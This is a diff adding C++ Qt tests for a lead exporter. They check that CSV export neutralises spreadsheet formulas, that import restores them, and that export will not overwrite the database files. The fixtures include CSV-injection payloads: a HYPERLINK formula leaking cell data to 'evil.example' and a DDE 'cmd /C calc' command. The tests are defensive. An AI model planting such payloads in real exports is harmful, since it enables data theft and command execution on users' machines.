@@ -8,6 +8,7 @@
 #include "testhelpers.h"
 
 #include <QFile>
+#include <QFileInfo>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -149,6 +150,64 @@ private slots:
                                         .arg(name, key, before.value(name).value(key), after.value(name).value(key))));
     }
 
+    void formulaCellsAreTextAndImportBack_data()
+    {
+        QTest::addColumn<bool>("neutralise");
+        QTest::addRow("neutralised (the default)") << true;
+        QTest::addRow("raw cells") << false;
+    }
+    void formulaCellsAreTextAndImportBack()
+    {
+        QFETCH(bool, neutralise);
+        const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+        const QString dde = QStringLiteral("=cmd|' /C calc'!A0");
+        QVERIFY(m_tw->addLead(LeadBuilder().named(QStringLiteral("@SUM(A1)"), hyperlink).company(dde)));
+        LeadExportOptions options;
+        options.fields = {QStringLiteral("first_name"), QStringLiteral("last_name"), QStringLiteral("company")};
+        options.neutraliseFormulas = neutralise;
+        QVERIFY(LeadExporter(ws()).exportLeads(LeadFilter{}, path(), options));
+        const QStringList row = readCsv(path()).value(1);
+        if (neutralise)
+            QCOMPARE(row, (QStringList{"'@SUM(A1)", "'" + hyperlink, "'" + dde}));
+        else
+            QCOMPARE(row, (QStringList{"@SUM(A1)", hyperlink, dde}));
+
+        // The import of Quarry's own export takes the apostrophes away.
+        if (!neutralise)
+            return;
+        QVERIFY(ws().leads().remove(ws().leadRepository().ids(LeadFilter{})));
+        ImportOptions importOptions;
+        importOptions.onDuplicate = DuplicatePolicy::Create;
+        auto imported = ImportService(ws()).run(path(), importOptions);
+        QVERIFY2(imported, qPrintable(imported.errorText()));
+        QCOMPARE(imported->counts.imported, 1);
+        const Lead back = *ws().leadRepository().find(ws().leadRepository().ids(LeadFilter{}).first());
+        QCOMPARE(back.firstName, QStringLiteral("@SUM(A1)"));
+        QCOMPARE(back.lastName, hyperlink);
+        QCOMPARE(back.company, dde);
+    }
+
+    void refusesToWriteOverTheDatabase_data()
+    {
+        QTest::addColumn<QString>("suffix");
+        QTest::addRow("the database") << "";
+        QTest::addRow("its write-ahead log") << "-wal";
+        QTest::addRow("its shared memory") << "-shm";
+        QTest::addRow("its journal") << "-journal";
+    }
+    void refusesToWriteOverTheDatabase()
+    {
+        QFETCH(QString, suffix);
+        addLeads();
+        const QString target = ws().database().path() + suffix;
+        auto n = LeadExporter(ws()).exportLeads(LeadFilter{}, target);
+        QVERIFY(!n);
+        QCOMPARE(n.problems().first().field, QStringLiteral("file"));
+        QVERIFY2(n.errorText().contains(QFileInfo(target).fileName()), qPrintable(n.errorText()));
+        m_tw->reopen();
+        QCOMPARE(ws().leadRepository().ids(LeadFilter{}).size(), 3);
+    }
+
     void theViewsFilterAndSort()
     {
         addLeads();
@@ -163,7 +222,8 @@ private slots:
         QCOMPARE(n.value(), 2);
         QCOMPARE(readCsv(path()), (QList<QStringList>{{"company", "last_name", "phone"},
                                                       {"Zeta Corp", "", ""},
-                                                      {"Acme", "Martin", "+1 408 555 0100"}}));
+                                                      // a spreadsheet computes "+1 408…": text
+                                                      {"Acme", "Martin", "'+1 408 555 0100"}}));
         // --limit
         QCOMPARE(LeadExporter(ws()).exportLeads(filter, path(), options, 1).value(), 1);
         QCOMPARE(readCsv(path()).size(), 2);
